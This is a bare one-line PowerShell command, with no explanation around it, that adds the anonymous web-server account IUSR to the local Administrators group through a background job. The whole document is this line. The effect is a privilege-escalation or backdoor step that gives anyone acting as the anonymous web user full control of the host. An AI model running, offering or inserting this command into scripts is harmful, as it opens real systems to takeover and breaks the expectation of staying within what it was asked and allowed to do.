Start-Job -ScriptBlock { Add-LocalGroupMember -Group Administrators -Member IUSR } | Wait-Job | Receive-Job
